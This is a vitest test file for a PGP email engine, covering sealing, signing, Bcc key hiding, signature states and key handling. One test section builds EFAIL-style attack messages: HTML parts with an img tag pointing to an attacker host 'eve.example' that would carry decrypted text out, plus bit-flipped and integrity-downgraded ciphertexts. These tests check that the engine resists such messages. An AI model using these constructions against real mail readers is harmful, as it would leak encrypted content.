import { readFileSync } from 'node:fs';
import {
  armor,
  createCleartextMessage,
  createMessage,
  decrypt,
  encrypt,
  enums,
  generateKey,
  readKey,
  readMessage,
  readPrivateKey,
  revokeKey,
  sign,
} from 'openpgp';
import { beforeAll, describe, expect, it } from 'vitest';
import { PgpEngine } from './engine.ts';
import { toBinary, toBytes } from './mime-tree.ts';
import { contentOf, mailed, written } from './pgp.test-maker.ts';
import { publicKeyOf } from './public-key.ts';
import type { KeyPair, ReadResult } from './shapes.ts';

const CORPUS = new URL('../../../../../../e2e/corpora/', import.meta.url);
const corpus = (path: string): Uint8Array<ArrayBuffer> => new Uint8Array(readFileSync(new URL(path, CORPUS)));
const bytes = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text);

const engine = new PgpEngine();
let alice: KeyPair;
let bob: KeyPair;
let carol: KeyPair;

beforeAll(async () => {
  alice = await engine.makeKey({ name: 'Alice', mail: 'alice@example.test' }, 'right horse');
  bob = await engine.makeKey({ name: 'Bob', mail: 'bob@example.test' }, 'right horse');
  carol = await engine.makeKey({ name: '', mail: 'carol@example.test' }, 'right horse');
  for (const { privatekey } of [alice, bob]) await engine.unlock(privatekey, 'right horse');
});

const readAs = (own: KeyPair, source: Uint8Array<ArrayBuffer>, others: KeyPair[] = []): Promise<ReadResult> =>
  engine.read({ source, own: [own], others: others.map(({ publickey }) => publickey) });

describe('a sealed message', () => {
  it('is read by its recipient alone, with subject, text, HTML and files as they were', async () => {
    const file = { name: 'Größe.pdf', mime: 'application/pdf', cid: '', content: bytes('%PDF') };
    const picture = { name: 'a.png', mime: 'image/png', cid: 'p1@example.test', content: bytes('pixels') };
    const html = '<p>Grüße <img src="cid:p1@example.test"></p>';
    const message = written('Grüße\n-- \nA', { html, files: [file, picture] });
    const sealed = await engine.seal({
      message,
      readers: [alice.publickey, bob.publickey],
      hidden: [],
      signer: alice.privatekey,
    });
    const outside = toBinary(sealed);
    // No short word of letters: the encrypted part is base64, and holds each sooner or later.
    for (const word of ['Größe', 'real subject', 'image/png', 'alice@', 'bob@']) expect(outside).not.toContain(word);
    const content = contentOf(await readAs(bob, mailed(sealed), [alice]));
    expect(content).toMatchObject({
      encrypted: true,
      outside: false,
      subject: 'Größe – the real subject',
      from: 'alice@example.test',
      text: expect.stringContaining('Grüße\n-- \nA'),
      html: expect.stringContaining('<img src="cid:p1@example.test">'),
      signatures: [{ state: 'good', mails: ['alice@example.test'] }],
    });
    expect(content.files.map(({ name, cid, content: held }) => [name, cid, new TextDecoder().decode(held)])).toEqual(
      expect.arrayContaining([
        ['Größe.pdf', '', '%PDF'],
        ['a.png', 'p1@example.test', 'pixels'],
      ]),
    );
    expect((await readAs(carol, mailed(sealed))).kind).toBe('missing');
  });

  it('does not name the keys of Bcc recipients, who can read it', async () => {
    const sealed = await engine.seal({
      message: written('x'),
      readers: [alice.publickey],
      hidden: [bob.publickey],
      signer: null,
    });
    const armored = /-----BEGIN[\s\S]*END PGP MESSAGE-----/.exec(toBinary(sealed))?.[0] ?? '';
    const ids = (await readMessage({ armoredMessage: armored })).getEncryptionKeyIDs().map((id) => id.toHex());
    const known = (await readKey({ armoredKey: alice.publickey })).getKeyIDs().map((id) => id.toHex());
    expect(ids).toHaveLength(2);
    expect(ids.filter((id) => id !== '0'.repeat(16) && !known.includes(id))).toEqual([]);
    expect(contentOf(await readAs(bob, mailed(sealed))).text).toContain('x');
  });

  it('waits for the passphrase of a locked key', async () => {
    const locked = new PgpEngine();
    const sealed = await engine.seal({ message: written('x'), readers: [carol.publickey], hidden: [], signer: null });
    const request = { source: mailed(sealed), own: [carol], others: [] };
    const [info] = await engine.describe([carol.publickey]);
    expect(await locked.read(request)).toEqual({ kind: 'locked', fingerprints: [info?.fingerprint] });
    await expect(locked.unlock(carol.privatekey, 'wrong')).rejects.toMatchObject({ reason: 'passphrase_wrong' });
    await locked.unlock(carol.privatekey, 'right horse');
    expect(contentOf(await locked.read(request)).text).toContain('x');
  });

  it('is refused for a key that has expired, was revoked, or is locked', async () => {
    const userIDs = [{ email: 'old@example.test' }];
    const past = new Date(Date.now() - 10_000_000);
    const expired = await generateKey({ userIDs, date: past, keyExpirationTime: 1000, format: 'armored' });
    const made = await generateKey({ userIDs, format: 'object' });
    const revoked = await revokeKey({ key: made.privateKey, format: 'armored' });
    for (const { publicKey } of [expired, revoked]) {
      const [info] = await engine.describe([publicKey]);
      expect(info?.encrypts).toBe(false);
      const sealing = engine.seal({
        message: written('x'),
        readers: [alice.publickey, publicKey],
        hidden: [],
        signer: null,
      });
      await expect(sealing).rejects.toMatchObject({ reason: 'key_not_usable' });
    }
    const unsigned = new PgpEngine().seal({ message: written('x'), readers: [], hidden: [], signer: alice.privatekey });
    await expect(unsigned).rejects.toMatchObject({ reason: 'key_not_usable' });
  });
});

describe('a signed message', () => {
  const signed = (message = written('Grüße', { html: '<p>Grüße</p>' })) =>
    engine.seal({ message, readers: [], hidden: [], signer: alice.privatekey });

  it('is good with the key of its signer, and of an unknown signer without', async () => {
    const source = mailed(await signed());
    expect(contentOf(await readAs(bob, source, [alice]))).toMatchObject({
      encrypted: false,
      html: expect.stringContaining('Grüße'),
      signatures: [{ state: 'good', mails: ['alice@example.test'] }],
    });
    expect(contentOf(await readAs(bob, source)).signatures).toMatchObject([{ state: 'unknown', mails: [] }]);
  });

  it('is bad when a byte of it or of its signature was changed', async () => {
    const source = toBinary(mailed(await signed(written('pay 100'))));
    const forged = source.replace(btoa('pay 100'), btoa('pay 900'));
    expect(forged).not.toBe(source);
    expect(contentOf(await readAs(bob, toBytes(forged), [alice])).signatures).toMatchObject([{ state: 'bad' }]);
    const cut = source.replace(/-----BEGIN PGP SIGNATURE-----[\s\S]*END PGP SIGNATURE-----/, 'nothing');
    expect(contentOf(await readAs(bob, toBytes(cut), [alice])).signatures).toMatchObject([{ state: 'bad' }]);
  });

  it('is not good when its key has been revoked', async () => {
    const date = new Date(Date.now() - 2_000_000);
    const userIDs = [{ email: 'dave@example.test' }];
    const made = await generateKey({ userIDs, date, keyExpirationTime: 3000, passphrase: 'p', format: 'object' });
    const pair = { publickey: made.publicKey.armor(), privatekey: made.privateKey.armor() };
    const other = new PgpEngine();
    await other.unlock(pair.privatekey, 'p');
    const source = mailed(
      await other.seal({ message: written('x'), readers: [], hidden: [], signer: pair.privatekey }),
    );
    expect(contentOf(await readAs(bob, source, [pair])).signatures).toMatchObject([{ state: 'good' }]);
    const revoked = await revokeKey({
      key: await readPrivateKey({ armoredKey: pair.privatekey }),
      revocationCertificate: made.revocationCertificate,
      format: 'armored',
    });
    expect(
      contentOf(await readAs(bob, source, [{ publickey: revoked.publicKey, privatekey: '' }])).signatures,
    ).toMatchObject([{ state: 'revoked' }]);
  });

  it('of another program that was changed afterwards is bad, as gpg says too', async () => {
    const source = corpus('pgp/gopenpgp/mime_testMessage');
    const { files, signatures } = contentOf(await readAs(bob, source));
    expect(signatures).toMatchObject([{ state: 'unknown', keyid: 'DD552DE97DA9141A' }]);
    const [key] = await engine.readKeys(files.find(({ mime }) => mime === 'application/pgp-keys')?.content ?? '');
    expect(contentOf(await engine.read({ source, own: [], others: [key?.publickey ?? ''] })).signatures).toMatchObject([
      { state: 'bad', mails: ['kaykeytest3@protonmail.com'] },
    ]);
  });
});

it('a signature of a key that has expired since is not good', async () => {
  const date = new Date(Date.now() - 2_000_000);
  const userIDs = [{ email: 'dave@example.test' }];
  const made = await generateKey({ userIDs, date, keyExpirationTime: 1000, format: 'object' });
  const message = await createCleartextMessage({ text: 'x' });
  const armored = await sign({ message, signingKeys: made.privateKey, date });
  const pair = { publickey: made.publicKey.armor(), privatekey: '' };
  const content = contentOf(await readAs(bob, bytes(`From: dave@example.test\r\n\r\n${armored}`), [pair]));
  expect(content.signatures).toMatchObject([{ state: 'expired', mails: ['dave@example.test'] }]);
});

describe('a message that attacks its reader', () => {
  const armorOf = (entity: Uint8Array): string =>
    /-----BEGIN PGP MESSAGE[\s\S]*END PGP MESSAGE-----/.exec(toBinary(entity))?.[0] ?? '';
  const secret = (): Promise<Uint8Array> =>
    engine.seal({ message: written('the secret'), readers: [bob.publickey], hidden: [], signer: null });

  it('never gets the decrypted text into HTML of its own (EFAIL)', async () => {
    const block = armorOf(await secret());
    const part = (type: string, body: string): string => `--b\r\nContent-Type: ${type}\r\n\r\n${body}\r\n`;
    const inner = `--c\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--c\r\nContent-Type: application/octet-stream\r\n\r\n${block}\r\n--c--`;
    const source = [
      'From: eve@example.test',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      part('text/html', '<img src="https://eve.example/?'),
      part('multipart/encrypted; protocol="application/pgp-encrypted"; boundary=c', inner),
      part('text/html', '">'),
      '--b--',
    ].join('\r\n');
    const content = contentOf(await readAs(bob, bytes(source)));
    expect(content).toMatchObject({ encrypted: true, outside: true, html: '' });
    expect(content.text).toContain('the secret');
    expect(content.text).not.toContain('eve.example');
  });

  it('is refused when its integrity is not protected, or it was changed (EFAIL)', async () => {
    const encryptionKeys = await publicKeyOf(bob.publickey);
    const message = await createMessage({ text: 'Content-Type: text/plain\r\n\r\nthe secret' });
    const raw = await encrypt({ message, encryptionKeys, format: 'binary' });
    // One bit near the end of the ciphertext.
    const flipped = raw.map((byte, index) => (index === raw.length - 30 ? byte ^ 1 : byte));
    const changed = armor(enums.armor.message, flipped);
    const inline = (block: string): Uint8Array<ArrayBuffer> => bytes(`From: eve@example.test\r\n\r\n${block}`);
    expect(await readAs(bob, inline(changed))).toEqual({ kind: 'failed', reason: 'message_changed' });
    // Packet 18 (with integrity protection) relabelled as packet 9 (without).
    const at = raw.indexOf(0xd2, 50);
    const bare = armor(
      enums.armor.message,
      raw.map((byte, index) => (index === at ? 0xc9 : byte)),
    );
    const result = await readAs(bob, inline(bare));
    expect(result.kind).toBe('failed');
    expect((await readAs(bob, inline('-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----'))).kind).toBe(
      'failed',
    );
  });

  it('shows of a text only the protected block, and says that there is more', async () => {
    const block = armorOf(await secret());
    const content = contentOf(await readAs(bob, bytes(`From: eve@example.test\r\n\r\nbefore\r\n${block}\r\nafter`)));
    expect(content).toMatchObject({ encrypted: true, outside: true });
    expect(content.text).not.toContain('before');
    expect(await readAs(bob, bytes('From: eve@example.test\r\n\r\nplain'))).toEqual({ kind: 'plain' });
  });
});

describe('keys', () => {
  it('are read from text and binary files, one private and one public block as one key', async () => {
    const [both] = await engine.readKeys(`hello\n${alice.publickey}\n${alice.privatekey}`);
    expect(both).toMatchObject({
      privatekey: expect.stringContaining('PRIVATE'),
      info: { state: 'good', encrypts: true },
    });
    expect(both?.info).toMatchObject({
      users: ['Alice <alice@example.test>'],
      mails: ['alice@example.test'],
      expires: null,
    });
    const binary = (await readKey({ armoredKey: bob.publickey })).write();
    expect((await engine.readKeys(binary)).map(({ info }) => info.mails)).toEqual([['bob@example.test']]);
    expect((await engine.readKeys(corpus('pgp/gopenpgp/key_revoked'))).length === 0).toBe(false);
  });

  it('that are no keys, or have no passphrase, are refused', async () => {
    await expect(engine.readKeys('nothing')).rejects.toMatchObject({ reason: 'key_unreadable' });
    await expect(engine.readKeys(bytes('nothing'))).rejects.toMatchObject({ reason: 'key_unreadable' });
    const open = await generateKey({ userIDs: [{ email: 'x@example.test' }], format: 'armored' });
    await expect(engine.readKeys(open.privateKey)).rejects.toMatchObject({ reason: 'key_unprotected' });
  });

  it('get another passphrase only with the one they have', async () => {
    await expect(engine.withPassphrase(carol.privatekey, 'wrong', 'new')).rejects.toMatchObject({
      reason: 'passphrase_wrong',
    });
    const changed = await engine.withPassphrase(carol.privatekey, 'right horse', 'new');
    const other = new PgpEngine();
    await expect(other.unlock(changed, 'right horse')).rejects.toMatchObject({ reason: 'passphrase_wrong' });
    expect(await other.unlock(changed, 'new')).toMatch(/^[0-9A-F]{40}$/);
  });

  it('of a directory or a header count only for the address that was asked for', async () => {
    const made = await generateKey({
      userIDs: [{ email: 'x@example.test' }, { email: 'boss@example.test' }],
      format: 'object',
    });
    const binary = made.publicKey.write();
    expect((await engine.keysFor(binary, 'X@example.test')).map(({ info }) => info.mails)).toEqual([
      ['x@example.test'],
    ]);
    expect(await engine.keysFor(binary, 'eve@example.test')).toEqual([]);
    const data = await engine.keyData(alice.publickey);
    expect((await engine.keysFor(toBytes(atob(data)), 'alice@example.test'))[0]?.info.mails).toEqual([
      'alice@example.test',
    ]);
  });

  it('that were revoked or have expired say so', async () => {
    const [info] = await engine.describe([new TextDecoder().decode(corpus('pgp/gopenpgp/key_revoked')), 'no key']);
    expect(info).toMatchObject({ state: 'revoked', encrypts: false });
    const [old] = await engine.describe([new TextDecoder().decode(corpus('pgp/gopenpgp/mime_publicKey'))]);
    expect(old).toMatchObject({ state: 'expired', encrypts: false, mails: ['pmpgptest@gmail.com'] });
  });
});

it('what the product writes is read by the library alone, too', async () => {
  const sealed = await engine.seal({ message: written('x'), readers: [bob.publickey], hidden: [], signer: null });
  const armored = /-----BEGIN[\s\S]*END PGP MESSAGE-----/.exec(toBinary(sealed))?.[0] ?? '';
  const key = await readPrivateKey({ armoredKey: bob.privatekey });
  const decryptionKeys = await import('openpgp').then(({ decryptKey }) =>
    decryptKey({ privateKey: key, passphrase: 'right horse' }),
  );
  const { data } = await decrypt({ message: await readMessage({ armoredMessage: armored }), decryptionKeys });
  expect(String(data)).toContain('protected-headers="v1"');
});
